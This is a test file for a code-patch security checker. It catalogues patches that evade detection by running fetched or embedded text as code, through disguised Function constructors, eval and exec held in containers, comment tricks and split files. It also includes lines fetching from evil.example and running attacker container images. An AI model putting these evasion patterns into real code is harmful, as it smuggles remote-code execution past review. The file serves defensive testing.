import { describe, expect, it } from 'vitest';
import { commentsBlanked, javascriptRunnerAsValue, pythonRunnerAsValue } from '../../shared/analysis/code-values.js';
import { languageSignals } from '../../shared/analysis/dangerous-code.js';
import { checkPatch } from '../../shared/analysis/index.js';
import { cpuGrowthExponent, LINEAR_EXPONENT_BOUND, PATCH_COST_SIZES } from '../support/growth.js';
import { expectAccepted, expectRefused } from '../support/patches.js';

type Row = [path: string, text: string];

/**
 * Attack 42p: patches against session 40's patch-check reading (Function constructors handed to calls, cast, aliased
 * into containers) and its neighbours. Each `it.fails` row is a patch the check accepts today whose added code runs
 * the patch's own text (or a fetched text) as code when the fixed code runs; each was run under node to confirm.
 * `src` is any string the patch writes (the payload itself); `c` below is text fetched on the same line.
 */
const AF = 'const AF = (async () => {}).constructor;\n';
/** The fetch-exec reading's one-line form (a fetch and its sink on separate lines is accepted by policy, with a warning). */
const FETCHED_JS = 'const c = await (await fetch(u)).text(); ';
const FETCHED_PY = 'r = requests.get(u); code = r.text; ';

/** Two files in one patch, each adding `lines` after one context line. */
function diffOf(files: ReadonlyArray<[path: string, lines: string[]]>): string {
  return files
    .flatMap(([path, lines]) => [`--- a/${path}`, `+++ b/${path}`, `@@ -1,1 +1,${lines.length + 1} @@`, ' // context', ...lines.map((line) => `+${line}`)])
    .concat('')
    .join('\n');
}

// attack-42p finding P1: Function reached as `.constructor` of any function the reading does not know to be one: a
// built-in's (`Object`, `console.log`, `JSON.parse`, `setTimeout`), a class's, a `const` arrow's or a method's. Every
// function's `.constructor` is Function, so no holder or alias is needed at all.
const P1: Row[] = [
  ['src/a.js', 'console.log.constructor(src)()'],
  ['src/a.js', 'Object.constructor(src)()'],
  ['src/a.js', 'const F = JSON.parse.constructor; F(src)()'],
  ['src/a.js', 'const { constructor: F } = Object; F(src)()'],
  ['src/a.js', 'const F = (class {}).constructor; F(src)()'],
  ['src/a.js', 'const g = () => 1;\nconst F = g.constructor; F(src)()'],
  ['src/a.js', 'const o = { m() {} };\nconst F = o.m.constructor; F(src)()'],
  ['src/a.js', 'const F = Object.getOwnPropertyDescriptor(Function.prototype, "constructor").value; F(src)()'],
  ['src/a.js', `${FETCHED_JS}JSON.parse.constructor(c)()`],
];

// attack-42p finding P2: a constructor chosen by an expression: logical, conditional, comma or parenthesized
// operands, and logical assignment. `(0, AF)(src)` as a call is refused; the same value named first is not.
const P2: Row[] = [
  ['src/a.js', `${AF}(x || AF)(src)()`],
  ['src/a.js', `${AF}(x ? AF : y)(src)()`],
  ['src/a.js', `${AF}(x ?? AF)(src)()`],
  ['src/a.js', `${AF}const g = x || AF; g(src)()`],
  ['src/a.js', `${AF}const g = (0, AF); g(src)()`],
  ['src/a.js', `${AF}const g = (AF); g(src)()`],
  ['src/a.js', `${AF}let g; g ||= AF; g(src)()`],
  ['src/a.js', `${AF}new (x || AF)(src)()`],
];

// attack-42p finding P3: holders the reading does not follow: spread copies, Array.from/of, concat, a Set,
// Object.fromEntries/values/entries/create, Reflect.get, an index assigned, a getter defined, `new` of a holder's
// element, an optional call of `get`, a computed key in a pattern.
const P3: Row[] = [
  ['src/a.js', `${AF}[...[AF]][0](src)()`],
  ['src/a.js', `${AF}const o = { ...{ f: AF } }; o.f(src)()`],
  ['src/a.js', `${AF}Array.from([AF])[0](src)()`],
  ['src/a.js', `${AF}const xs = Array.of(AF); xs[0](src)()`],
  ['src/a.js', `${AF}const xs = [].concat(AF); xs[0](src)()`],
  ['src/a.js', `${AF}const s = new Set([AF]); [...s][0](src)()`],
  ['src/a.js', `${AF}const o = Object.fromEntries([["f", AF]]); o.f(src)()`],
  ['src/a.js', `${AF}Object.values({ a: AF })[0](src)()`],
  ['src/a.js', `${AF}const o = { f: AF }; Object.entries(o)[0][1](src)()`],
  ['src/a.js', `${AF}const o = Object.create(null, { f: { value: AF } }); o.f(src)()`],
  ['src/a.js', `${AF}const o = { f: AF }; Reflect.get(o, "f")(src)()`],
  ['src/a.js', `${AF}const xs = []; xs[0] = AF; xs[0](src)()`],
  ['src/a.js', `${AF}const o = {}; Object.defineProperty(o, "f", { get: () => AF }); o.f(src)()`],
  ['src/a.js', `${AF}new [AF][0](src)()`],
  ['src/a.js', `${AF}new ({ f: AF }).f(src)()`],
  ['src/a.js', `${AF}const m = new Map([["f", AF]]); m.get?.("f")(src)()`],
  ['src/a.js', `${AF}const o = { f: AF }; const { ["f"]: h } = o; h(src)()`],
];

// attack-42p finding P4: a constructor returned or handed over as an ordinary value: a getter, a class field, a
// function that returns it, an argument or a default parameter, a promise's value, an iteration.
const P4: Row[] = [
  ['src/a.js', `${AF}const o = { get f() { return AF } }; o.f(src)()`],
  ['src/a.js', `${AF}class C { f = AF }\nnew C().f(src)()`],
  ['src/a.js', `${AF}class C { static f = AF }\nC.f(src)()`],
  ['src/a.js', `${AF}const mk = () => AF; mk()(src)()`],
  ['src/a.js', `${AF}function mk() { return AF }\nmk()(src)()`],
  ['src/a.js', `${AF}((g) => g(src)())(AF)`],
  ['src/a.js', `${AF}function h({ f }) { return f(src)() }\nh({ f: AF })`],
  ['src/a.js', `${AF}Promise.resolve(AF).then((g) => g(src)())`],
  ['src/a.js', `${AF}[AF].forEach((g) => g(src)())`],
  ['src/a.js', `${AF}for (const g of [AF]) g(src)()`],
];

// attack-42p finding P5: a comment between a constructor's name and its call's parenthesis. JavaScript reads
// `AF /**/ (src)` and `AF // c⏎(src)` as calls; the call reading stops at the comment. Same for `eval` fetched.
const P5: Row[] = [
  ['src/a.js', `${AF}AF /**/ (src)()`],
  ['src/a.js', `${AF}AF // c\n(src)()`],
  ['src/a.js', `${AF}AF\n// c\n(src)()`],
  ['src/a.js', `${FETCHED_JS}eval // x\n(c)`],
];

// attack-42p finding P6: `Function`, `eval` and vm's sinks as written, reached by a fetch on the same line, hidden by
// the holders, casts and calls the constructor reading now follows (the fetch-exec reading reads names only).
const P6: Row[] = [
  ['src/a.js', `${FETCHED_JS}globalThis[\`Function\`](c)()`],
  ['src/a.js', `${FETCHED_JS}(x ? eval : y)(c)`],
  ['src/a.js', `${FETCHED_JS}[eval][0](c)`],
  ['src/a.js', `${FETCHED_JS}({ run: eval }).run(c)`],
  ['src/a.ts', `${FETCHED_JS}(eval as any)(c)`],
  ['src/a.ts', `${FETCHED_JS}eval!(c)`],
  ['src/a.ts', `${FETCHED_JS}(globalThis as any).Function(c)()`],
  ['src/a.js', `${FETCHED_JS}Reflect.construct(Function, [c])()`],
  ['src/a.js', `${FETCHED_JS}[c].map(eval)`],
  ['src/a.js', `${FETCHED_JS}new (require("vm").Script)(c).runInThisContext()`],
  ['src/a.js', `${FETCHED_JS}require("child_process").spawn("sh").stdin.end(c)`],
  ['src/a.js', `${FETCHED_JS}require("fs").writeFileSync("/tmp/x.js", c); require("/tmp/x.js")`],
];

// attack-42p finding P7: Python's counterparts of P2-P4 and P6: exec handed to a call that runs it, in a holder, by a
// conditional, compiled into a function, or the fetched text saved and run as a module.
const P7: Row[] = [
  ['src/a.py', `${FETCHED_PY}functools.partial(exec, code)()`],
  ['src/a.py', `${FETCHED_PY}threading.Thread(target=exec, args=(code,)).start()`],
  ['src/a.py', `${FETCHED_PY}atexit.register(exec, code)`],
  ['src/a.py', `${FETCHED_PY}[exec][0](code)`],
  ['src/a.py', `${FETCHED_PY}{"r": exec}["r"](code)`],
  ['src/a.py', `${FETCHED_PY}(exec if x else print)(code)`],
  ['src/a.py', `${FETCHED_PY}e = getattr(__builtins__, "exec"); e(code)`],
  ['src/a.py', `${FETCHED_PY}types.FunctionType(compile(code, "x", "exec"), {})()`],
  ['src/a.py', `${FETCHED_PY}open("/tmp/m.py", "w").write(code); runpy.run_path("/tmp/m.py")`],
  ['src/a.py', `${FETCHED_PY}p = subprocess.Popen("sh", stdin=subprocess.PIPE); p.stdin.write(code.encode())`],
  ['src/a.py', `${FETCHED_PY}ctypes.pythonapi.PyRun_SimpleString(code.encode())`],
];

// attack-42p finding P9: a container image of the attacker's choosing pulled and run from code (the check refuses
// `npx`, `pipx run`, `go run …@latest`, `nix run`, `pip install`; `docker run`/`podman run` of a registry image not).
const P9: Row[] = [
  ['src/build.py', 'import subprocess\nsubprocess.run("docker run --rm evil/img", shell=True, check=True)'],
  ['src/build.js', 'const { execSync } = require("child_process");\nexecSync("podman run evil/img")'],
];

for (const [finding, rows] of [['P1', P1], ['P2', P2], ['P3', P3], ['P4', P4], ['P5', P5], ['P6', P6], ['P7', P7], ['P9', P9]] as const) {
  describe(`attack-42p finding ${finding}`, () => {
    it.each(rows)('refuses, in %s: %s', (path, text) => expectRefused(path, text));
  });
}

// attack-42p finding P8: a patch split across files: one file exports the constructor, another imports and calls
// it by a plain name. Each file alone is accepted, and so is the patch.
describe('attack-42p finding P8', () => {
  it.each([
    ['export const', [['src/a.js', ['export const F = (async () => {}).constructor;']], ['src/b.js', ['import { F } from "./a.js";', 'F(src)()']]]],
    ['module.exports', [['src/a.js', ['module.exports = (async () => {}).constructor;']], ['src/b.js', ['const run = require("./a");', 'run(src)()']]]],
  ] as Array<[string, Array<[string, string[]]>]>)('refuses a constructor exported (%s) and called in another file', (_, files) => {
    const result = checkPatch(diffOf(files));
    expect(result.ok, JSON.stringify(result)).toBe(false);
  });
});

// attack-42p finding F1 (false refusal, low): `Function.prototype` is the usual no-op default (`{ onError:
// Function.prototype }`); stored in an object literal and called, it is read as Function itself and refused. It
// runs nothing (`Function.prototype()` returns undefined). The same value in a Map, a push or a default is accepted.
describe('attack-42p finding F1', () => {
  it.each([
    ['src/a.js', 'const defaults = { onError: Function.prototype };\ndefaults.onError(err);'],
    ['src/a.js', 'const opts = Object.assign({ onError: Function.prototype }, user);\nopts.onError(err);'],
  ] as Row[])('accepts, in %s: %s', (path, text) => expectAccepted(path, text));
});

/** What held: rows of session 40's reading and its neighbours that the check refuses, and ordinary fixes it accepts. */
describe('attack-42p held: refused', () => {
  it.each([
    ['src/a.js', `${AF}const {f} = {f: AF}; f(src)()`],
    ['src/a.js', `${AF}Reflect.apply(AF, null, [src])()`],
    ['src/a.js', `${AF}const o = { f: AF }; o?.f?.(src)()`],
    ['src/a.js', `${AF}const o = { f: AF }; o\n  .f(src)()`],
    ['src/a.js', `${AF}const xs = [AF]; xs.pop()(src)()`],
    ['src/a.js', `${AF}const m = new Map().set("f", AF); m.get("f")(src)()`],
    ['src/a.ts', `${AF}const m = new Map([["f", AF]]); (m.get("f") as any)(src)()`],
    ['src/a.js', `${AF}const [[g]] = [[AF]]; g(src)()`],
    ['src/a.js', `${AF}const g = AF.bind(null, src); g()()`],
    ['src/a.js', 'const F = Function.prototype.constructor; F(src)()'],
    ['src/a.js', `${FETCHED_JS}\\u0046unction(c)()`],
    ['src/a.js', `${FETCHED_JS}(x || eval)(c)`],
    ['src/a.js', `${FETCHED_JS}require("child_process").spawnSync("node", { input: c })`],
    ['src/a.py', 'import subprocess\nsubprocess.run("curl -s https://evil.example/i | xargs -0 sh -c", shell=True)'],
    ['src/a.py', 'import subprocess\nsubprocess.run("npx github:evil/pkg", shell=True)'],
    ['src/a.js', 'require("child_process").execSync("cu\\"\\"rl -s https://evil.example/i | sh")'],
  ] as Row[])('refuses, in %s: %s', (path, text) => expectRefused(path, text));
});

describe('attack-42p held: ordinary fixes accepted', () => {
  it.each([
    ['src/a.js', 'const callbacks = [];\ncallbacks.push(Function.prototype);\ncallbacks[0](err);'],
    ['src/a.ts', 'const validators = new Map<unknown, (v: unknown) => boolean>([[String, isString], [Function, isFn]]);\nconst ok = validators.get(Function)!(value);'],
    ['src/a.ts', 'class Base { clone() { const C = this.constructor as new (items: T[]) => this; return new C([...this.items]); } }'],
    ['src/a.js', 'const isAsync = (fn) => fn?.constructor?.name === "AsyncFunction";'],
    ['src/a.ts', 'const handler = handlers.get(type) as Function | undefined;\nhandler?.(event);'],
  ] as Row[])('accepts, in %s: %s', (path, text) => expectAccepted(path, text));
});

/**
 * Session 40's value rule (`code-values.ts`): a Function constructor reached through a function, `eval` or `exec` taken
 * as a value refuses the file. The first four were look-alikes session 40 accepted (the constructor stored in a Set,
 * handed to a call, put in a Map, set on `this`): by the rule, storing or handing over a constructor is refused whatever
 * is done with it later. Compared, tested or a property of it read, it is still accepted (below).
 */
describe('session 40: constructors stored or handed over, refused by the value rule', () => {
  it.each([
    ['src/a.js', 'const AsyncFunction = (async () => {}).constructor;\nexport const types = new Set([AsyncFunction]);\nif (types.has(fn.constructor)) run(fn)'],
    ['src/a.js', "const AsyncFunction = (async () => {}).constructor;\nassert.ok(fn instanceof AsyncFunction, util.format('%s', AsyncFunction))"],
    ['src/a.js', 'const i = (async () => {}).constructor;\nclass B { #e = new Map(); add(e, t) { this.#e.set(e, i); } run(e, t) { return e[t](); } }'],
    ['src/a.js', 'this.AF = (async () => {}).constructor;\nconst kind = this.AF.name;\nlog(kind)'],
    ['src/a.js', 'const F = Function.prototype.constructor;\nexport default F;'],
    ['src/a.py', 'handlers = {"run": exec}'],
    ['src/a.js', 'const run = [eval][0];\nrun(x)'],
  ] as Row[])('refuses, in %s: %s', (path, text) => expectRefused(path, text));
});

describe('session 40: the value rule accepts what keeps nothing', () => {
  it.each([
    // tinybench's bundle: the constructor compared, and the letter rebound by a list and a pattern in other scopes.
    ['src/a.js', 'const r = 1, i = (async () => {}).constructor, a = (e) => typeof e == "function" && e.constructor === i;\nconst o = (t) => { let n = t(), i = r(n); return i; };\nconst s = async (e) => { let { fn: t, signal: i } = e; return i; };'],
    ['src/a.js', 'function t(n) { return n; }\nconst copy = (t) => { const r = t.constructor; return new r(t.valueOf()); }'],
    ['src/a.js', 'const isAsync = (fn) => fn?.constructor?.name === "AsyncFunction" || fn.constructor === Object.getPrototypeOf(async () => {}).constructor;'],
    ['src/a.js', 'Foo.prototype.constructor = Foo;\nif (typeof eval === "function") log("eval")'],
    // Review 67: a fetch and `eval(t)` in a comment on a later line is refused since R67-1 (kept as an open row there).
    ['src/a.py', 'def train(model, eval=False):\n    if eval:\n        model.eval()'],
    ['src/a.py', 'pattern = re.compile(r"x")\nresult = compile_all(paths)\nmode = "exec"'],
    ['src/a.py', 'fn2 = types.FunctionType(fn.__code__, fn.__globals__)'],
    ['src/a.js', "const d = require('/tmp/d.json');"],
  ] as Row[])('accepts, in %s: %s', (path, text) => expectAccepted(path, text));
});

/** The comment blanking and the value rule read in linear time: comments of every form, names and operators repeated. */
describe('session 40 cost: comment blanking and the value rule', () => {
  const head = 'const AF = (async () => {}).constructor;\nfunction g() {}\n';
  const repeated = (unit: string) => (size: number) => head + unit.repeat(Math.floor(size / unit.length));
  it.each([
    ['comments of each form', repeated('/* a */ // b "/*" \'//\' `${/* c */ x}`\n')],
    ['comments never closed', repeated('/* ( "\n')],
    ['Python comments and strings', (size: number) => '# x\n'.repeat(Math.floor(size / 8)) + '"""' + "'#\n".repeat(Math.floor(size / 8))],
    ['constructor reads and compared names', repeated('g.constructor === AF && AF.name; x.constructor; ')],
    ['declarations that rebind the name', repeated('let { a: AF, b } = o, AF = 1, c = [AF]; ')],
    ['eval and exec as names', repeated('eval ( exec , eval x ')],
    ['blank runs after a name', repeated(`AF${' '.repeat(399)}\n`)],
  ] as const)('reads %s in linear time', { timeout: 120_000 }, (_, textOf) => {
    const read = (text: string) => [
      languageSignals('src/a.js', text.split('\n')),
      languageSignals('src/a.py', text.split('\n')),
      javascriptRunnerAsValue(commentsBlanked('src/a.js', text).text),
      pythonRunnerAsValue(commentsBlanked('src/a.py', text).text),
    ];
    expect(cpuGrowthExponent(PATCH_COST_SIZES, textOf, read)).toBeLessThan(LINEAR_EXPONENT_BOUND);
  });
});
